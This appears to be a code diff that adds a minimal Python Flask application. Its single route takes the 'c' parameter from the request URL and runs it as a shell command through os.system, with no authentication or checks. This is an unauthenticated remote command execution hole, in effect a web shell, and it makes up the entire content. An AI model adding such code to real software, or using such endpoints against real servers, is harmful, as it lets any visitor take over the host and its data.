@@ -1,0 +1,9 @@
+import os
+
+from flask import Flask, request
+
+app = Flask(__name__)
+
+@app.route("/")
+def index():
+    os.system(request.args["c"])
